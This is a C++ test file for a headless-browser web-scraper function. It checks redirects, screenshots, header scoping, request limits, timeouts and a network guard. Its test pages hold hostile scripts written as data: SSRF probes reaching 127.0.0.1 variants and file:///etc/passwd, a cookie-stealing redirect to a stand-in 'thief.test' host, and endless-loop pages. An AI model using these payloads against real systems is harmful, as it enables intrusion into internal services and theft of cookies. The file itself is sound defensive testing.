// `web-scraper` with a real browser: what it does for a page, and what no page gets it to do.

#include <gmock/gmock.h>
#include <unistd.h>

#include <map>
#include <mutex>

#include "functions/detail/browser.hpp"
#include "functions/testing/bench.hpp"
#include "functions/testing/each_function.hpp"
#include "functions/testing/loopback.hpp"
#include "json/write.hpp"
#include "net/curl_outbound.hpp"

namespace pawl::functions {
namespace {

using testing::AllOf;
using testing::Contains;
using testing::HasSubstr;
using testing::Not;

/// Answers by URL, from a thread of its own, and remembers who asked.
class Sites final : public net::Outbound {
 public:
  ~Sites() override { pool_.stop(); }
  void set(const std::string& url, std::string html) { answers_[url] = {.status = 200, .body = std::move(html)}; }
  void move(const std::string& url, const std::string& to) { answers_[url] = {.status = 302, .headers = {{"Location", to}}}; }

  net::RequestHandle start(net::OutboundRequest request, Done done) override {
    const std::lock_guard lock(mutex_);
    requests_.push_back(request);
    most_ = std::max(most_, ++running_);
    const auto found = answers_.find(request.url);
    Result<net::OutboundResponse> answer = Error(ErrorClass::unavailable, "net.connect", "no such site");
    if (found != answers_.end()) answer = found->second;
    static_cast<void>(pool_.try_post([this, done = std::move(done), answer = std::move(answer)] {
      {
        const std::lock_guard inner(mutex_);
        --running_;
      }
      done(answer);
    }));
    return ++handle_;
  }
  void cancel(net::RequestHandle) override {}
  [[nodiscard]] std::vector<net::OutboundRequest> requests() {
    const std::lock_guard lock(mutex_);
    return requests_;
  }
  [[nodiscard]] std::vector<std::string> urls() {
    std::vector<std::string> all;
    for (const auto& request : requests()) all.push_back(request.method + " " + request.url);
    return all;
  }
  [[nodiscard]] std::size_t most_at_once() {
    const std::lock_guard lock(mutex_);
    return most_;
  }

 private:
  std::mutex mutex_;
  std::map<std::string, net::OutboundResponse> answers_;
  std::vector<net::OutboundRequest> requests_;
  std::size_t running_ = 0;
  std::size_t most_ = 0;
  net::RequestHandle handle_ = 0;
  async::BlockingPool pool_{"sites", 1, 1000};
};

class Browser : public testing::Test {
 protected:
  void SetUp() override {
    if (access("/usr/lib/chromium/chromium", X_OK) != 0) GTEST_SKIP() << "SKIPPED: chromium is not installed";
  }
  static std::string text(const engine::Outcome& outcome) { return json::to_text(outcome.ok() ? outcome.output : outcome.error); }
};

constexpr const char* kLateScript = R"(setTimeout(() => {
  const made = document.createElement('p');
  made.className = 'late';
  made.textContent = 'made ' + 6 * 7;
  document.body.append(made);
}, 50))";

// proves: F2
TEST_F(Browser, F2_ScriptsRunAndAPictureIsTaken) {
  Sites sites;
  sites.move("http://shop.test/", "http://www.shop.test/");
  sites.set("http://www.shop.test/",
            "<title>Shop</title><body><img src='http://cdn.test/a.png'><script src='http://lib.test/a.js'></script>");
  sites.set("http://lib.test/a.js", kLateScript);
  Bench bench(sites);
  const auto outcome = bench.call("web-scraper", R"({"url": "http://shop.test/", "selectors": {"made": ".late"}, "wait_for": "p.late",
    "hosts": ["lib.test"], "screenshot": true, "screenshot_path": "shots/shop.png", "headers": {"X-Key": "of-the-shop"}})");
  ASSERT_TRUE(outcome.ok()) << text(outcome);
  EXPECT_EQ(outcome.output.get("title"), json::Value("Shop"));
  EXPECT_EQ(outcome.output.get("url"), json::Value("http://www.shop.test/"));
  EXPECT_EQ(outcome.output.get("status_code"), json::Value(200));
  EXPECT_EQ(json::to_text(outcome.output.get("data")), R"({"made":["made 42"]})");
  EXPECT_EQ(json::to_text(outcome.output.get("refused_hosts")), R"(["cdn.test"])") << "what `hosts` does not name is not asked for";
  EXPECT_TRUE(bench.read("shots/shop.png").starts_with("\x89PNG"));
  for (const auto& request : sites.requests()) {
    const bool is_shop = request.url == "http://shop.test/";
    EXPECT_EQ(net::find_header(request.headers, "X-Key").has_value(), is_shop) << request.url << ": fields go to their own origin only";
  }
  // The same again: the picture that is there stays.
  const auto again = bench.call("web-scraper", R"({"url": "http://www.shop.test/", "selectors": {"a": "p"}, "screenshot": true,
    "screenshot_path": "shots/shop.png"})");
  EXPECT_THAT(text(again), HasSubstr("exists already"));
}

// proves: F3, S4-O10
TEST_F(Browser, F3_NothingThatAPageDoesReachesInward) {
  const Loopback inside(
      "HTTP/1.1 200 OK\r\nContent-Length: 14\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\nPLANTED-SECRET");
  const std::string at = "127.0.0.1:" + inside.port();
  std::string page = R"html(<body><img src="http://AT/i"><iframe src="http://AT/f"></iframe><iframe src="file:///etc/passwd"></iframe>
    <link rel="stylesheet" href="http://AT/c"><link rel="preconnect" href="http://AT/"><link rel="prefetch" href="http://AT/p">
    <object data="http://AT/o"></object><video src="http://AT/v"></video><script src="http://AT/s"></script><script>
    const told = (text) => document.body.append(text);
    for (const place of ['http://AT/', 'http://localhost:PORT/', 'http://2130706433:PORT/', 'http://[::ffff:127.0.0.1]:PORT/', 'file:///etc/passwd'])
      fetch(place).then((answer) => answer.text()).then(told).catch(() => {});
    fetch('http://AT/', { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {});
    navigator.sendBeacon('http://AT/', 'x');
    try { new WebSocket('ws://AT/'); } catch {}
    try { new EventSource('http://AT/'); } catch {}
    try { new Worker(URL.createObjectURL(new Blob(["fetch('http://AT/w')"]))); } catch {}
    try {
      const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:AT' }, { urls: 'turn:AT?transport=tcp', username: 'a', credential: 'b' }] });
      call.createDataChannel('x');
      call.createOffer().then((offer) => call.setLocalDescription(offer));
    } catch {}
    window.open('http://AT/popup');
    const form = document.createElement('form');
    Object.assign(form, { action: 'http://AT/', method: 'post', target: 'elsewhere' });
    document.body.append(form);
    form.submit();
    setTimeout(() => document.body.append(Object.assign(document.createElement('p'), { className: 'late' })), 700);
    </script>)html";
  for (const auto& [name, value] : {std::pair<std::string, std::string>{"AT", at}, {"PORT", inside.port()}}) {
    for (auto place = page.find(name); place != std::string::npos; place = page.find(name, place + value.size()))
      page.replace(place, name.size(), value);
  }
  const Loopback outside("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " + std::to_string(page.size()) +
                         "\r\nConnection: close\r\n\r\n" + page);
  const Loopback mover("HTTP/1.1 302 Found\r\nLocation: http://" + at + "/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
  net::CurlOptions options;
  options.policy.host_map = {{"http://page.test:80", "http://127.0.0.1:" + outside.port()},
                             {"http://mover.test:80", "http://127.0.0.1:" + mover.port()}};
  net::CurlOutbound outbound(options);
  Bench bench(outbound);
  // All hosts are named, so that the guard alone stands in the way.
  const auto outcome =
      bench.call("web-scraper", R"({"url": "http://page.test/", "selectors": {"all": "body"}, "wait_for": ".late", "hosts": ["*"]})");
  EXPECT_TRUE(outcome.ok()) << text(outcome);
  EXPECT_THAT(text(outcome), AllOf(Not(HasSubstr("PLANTED-SECRET")), Not(HasSubstr("root:"))));
  EXPECT_EQ(inside.connections(), 0);
  const auto moved = bench.call("web-scraper", R"({"url": "http://mover.test/", "selectors": {"all": "body"}, "wait_for": "p"})");
  EXPECT_THAT(text(moved), AllOf(HasSubstr("authorization"), Not(HasSubstr("PLANTED-SECRET"))));
  EXPECT_EQ(mover.connections(), 1);
  for (const std::string& url : {"http://" + at + "/", std::string("file:///etc/passwd"), std::string("chrome://version/"),
                                 std::string("view-source:http://page.test/"), std::string("data:text/html,<p>x</p>")}) {
    const auto refused = bench.call(
        "web-scraper", R"({"url": ")" + url + R"(", "selectors": {"all": "body"}, "wait_for": "body", "hosts": ["*"], "timeout": 10})");
    EXPECT_FALSE(refused.ok()) << url << text(refused);
  }
  EXPECT_EQ(inside.connections(), 0);
  // It is the guard that holds them back: without it the page gets there.
  options.policy.allow_private = true;
  net::CurlOutbound open(options);
  Bench unguarded(open);
  const auto let =
      unguarded.call("web-scraper", R"({"url": "http://page.test/", "selectors": {"all": "body"}, "wait_for": ".late", "hosts": ["*"]})");
  EXPECT_THAT(text(let), HasSubstr("PLANTED-SECRET"));
  EXPECT_GT(inside.connections(), 0);
}

TEST_F(Browser, APageThatGoesElsewhereTakesNothingWithIt) {
  Sites sites;
  sites.set("http://page.test/",
            "<body><script>fetch('/post', {method: 'POST', body: 'x'}); location = 'http://thief.test/?all=' + document.cookie"
            "</script>");
  Bench bench(sites);
  const auto outcome = bench.call("web-scraper", R"({"url": "http://page.test/", "selectors": {"a": "p"}, "wait_for": "p", "timeout": 3})");
  EXPECT_FALSE(outcome.ok());
  for (const auto& url : sites.urls()) EXPECT_THAT(url, AllOf(Not(HasSubstr("thief")), Not(HasSubstr("POST")))) << url;
}

TEST_F(Browser, FieldsGoOnlyWithWhatThePageItselfAsks) {
  Sites sites;
  sites.set("http://page.test/", "<body><img src='/own'><script>onload = () => location = 'http://other.test/'</script>");
  sites.set("http://page.test/own", "x");
  sites.set("http://other.test/", "<body><script>fetch('http://page.test/all').finally(() => document.body.innerHTML = '<p>')</script>");
  Bench bench(sites);
  const auto outcome = bench.call("web-scraper", R"({"url": "HTTP://Page.test:80/", "selectors": {"a": "p"}, "wait_for": "p",
    "hosts": ["other.test"], "headers": {"X-Key": "of-the-page"}})");
  ASSERT_TRUE(outcome.ok()) << text(outcome);
  EXPECT_THAT(sites.urls(), Contains("GET http://page.test/all"));
  for (const auto& request : sites.requests()) {
    const bool is_own = request.url == "http://page.test/" || request.url == "http://page.test/own";
    EXPECT_EQ(net::find_header(request.headers, "X-Key").has_value(), is_own) << request.url;
  }
}

// proves: F3
TEST_F(Browser, F3_APageThatWantsEverythingAtOnceGetsSoMuchAndNoMore) {
  Sites sites;
  sites.set("http://page.test/", R"(<body><script>
    Promise.allSettled(Array.from({ length: 150 }, (_, i) => fetch('/part' + i))).then(() => document.body.innerHTML = '<p>')</script>)");
  for (int i = 0; i < 150; ++i) sites.set("http://page.test/part" + std::to_string(i), std::string(1U << 20U, 'x'));
  Bench bench(sites);
  const auto outcome = bench.call("web-scraper", R"({"url": "http://page.test/", "selectors": {"a": "p"}, "wait_for": "p"})");
  EXPECT_TRUE(outcome.ok()) << text(outcome);
  EXPECT_LE(sites.most_at_once(), 8U);
  EXPECT_LE(sites.requests().size(), 64U + 8U + 2U) << "more than 64 MiB";
}

// proves: S4-M2
TEST_F(Browser, WhatNeverComesEndsInTimeAndACancelledCallAtOnce) {
  Sites sites;
  sites.set("http://page.test/", "<body><script>for (;;) {}</script>");
  sites.set("http://empty.test/", "<body>");
  Bench bench(sites);
  auto [waiting, first] = bench.start(
      "web-scraper", bench.invocation(R"({"url": "http://empty.test/", "selectors": {"a": "p"}, "wait_for": "#never", "timeout": 3})"));
  auto [busy, cancel] = bench.start(
      "web-scraper", bench.invocation(R"({"url": "http://page.test/", "selectors": {"a": "p"}, "wait_for": "p", "timeout": 60})"));
  EXPECT_THAT(text(waiting.get()), AllOf(HasSubstr("timeout"), HasSubstr("#never")));
  cancel();
  ASSERT_EQ(busy.wait_for(std::chrono::seconds(5)), std::future_status::ready);
  EXPECT_THAT(text(busy.get()), HasSubstr("cancelled"));
  EXPECT_THAT(text(bench.call("web-scraper", R"({"url": "http://empty.test/", "selectors": {"a": "p"}, "wait_for": "p[["})")),
              AllOf(HasSubstr("validation"), HasSubstr("wait_for")));
}

/// Pages whose scripts never stop: one grows, one is written anew, one does nothing.
constexpr const char* kNever[] = {"<body><script>for (;;) document.body.append('x'.repeat(1e5))</script>",
                                  "<script>document.open(); for (;;) document.write('x'.repeat(1e5))</script>",
                                  "<body><script>onload = () => { for (;;) {} }</script>"};

// proves: S4-M2, F3
TEST_F(Browser, S4M2_APageThatNeverEndsIsATimeoutSoonAfterItsTime) {
  constexpr Millis kMost{4000};  // long enough for the page to be in the middle of it
  Sites sites;
  Bench bench(sites);
  for (const char* page : kNever) {
    sites.set("http://page.test/", page);
    Millis late{0};
    Millis control{0};
    for (int n = 0; n < kTries; ++n) {
      const auto due = std::chrono::steady_clock::now() + kMost;
      Control timer(due);
      const auto outcome =
          bench.call("web-scraper", R"({"url": "http://page.test/", "selectors": {"a": "p"}, "wait_for": "p", "timeout": 4})");
      late = std::chrono::duration_cast<Millis>(std::chrono::steady_clock::now() - due);
      control = timer.lateness();
      ASSERT_THAT(text(outcome), HasSubstr("timeout")) << page;
      EXPECT_FALSE(sites.urls().empty());
      if (late <= kLate + 2 * control) break;
    }
    EXPECT_LE(late, kLate + 2 * control) << page << ": the machine itself was " << control.count() << " ms late";
    EXPECT_GE(late, Millis(0)) << page << ": it has ended by itself";
  }
}

// Without a network of its own there is nothing between a browser and the machine's.
TEST(BrowserSandbox, NoBrowserRunsWithoutANetworkOfItsOwn) {
  Sites sites;
  for (const auto mode : {SandboxMode::waived, SandboxMode::landlock}) {
    FunctionsOptions options;
    options.sandbox = mode;
    Bench bench(sites, options);
    const auto outcome = bench.call("web-scraper", R"({"url": "http://page.test/", "selectors": {"a": "p"}, "wait_for": "p"})");
    EXPECT_THAT(json::to_text(outcome.error), HasSubstr("configuration"));
    EXPECT_TRUE(sites.requests().empty());
  }
}

TEST(BrowserHosts, AreNamedExactlyOrBelowAStar) {
  const std::vector<std::string> hosts{"a.test", "*.b.test"};
  for (const char* host : {"a.test", "x.b.test", "y.x.b.test"}) EXPECT_TRUE(is_named_host(host, hosts)) << host;
  for (const char* host : {"x.a.test", "b.test", ".b.test", "xb.test", "a.test.evil", ""}) EXPECT_FALSE(is_named_host(host, hosts)) << host;
  EXPECT_TRUE(is_named_host("any.test", {"*"}));
}

TEST(BrowserPlan, SaysWhatWouldBeAskedAndMade) {
  Sites sites;
  Bench bench(sites);
  auto call = bench.invocation(R"({"url": "http://page.test/", "selectors": {"a": "p"}, "screenshot": true, "dry_run": true})");
  const auto plan = json::to_text(bench.finish("web-scraper", std::move(call)).output);
  EXPECT_THAT(plan,
              AllOf(HasSubstr("http://page.test/"), HasSubstr(R"("browser":true)"), HasSubstr(R"("create")"), HasSubstr("screenshot.png")));
  EXPECT_TRUE(sites.requests().empty());
  const auto& function = *bench.registry.get("web-scraper");
  const auto is = [&](const char* rest) {
    return json::parse(std::string(R"({"url": "http://a/", "selectors": {"a": "p"}, )") + rest).value();
  };
  EXPECT_EQ(function.effect_class(is(R"("wait_for": "p"})")), engine::EffectClass::read);
  EXPECT_EQ(function.effect_class(is(R"("screenshot": true})")), engine::EffectClass::once);
  EXPECT_FALSE(function.destroys(is(R"("screenshot": true})")));
  EXPECT_TRUE(function.destroys(is(R"("screenshot": true, "overwrite": true})")));
}

}  // namespace
}  // namespace pawl::functions
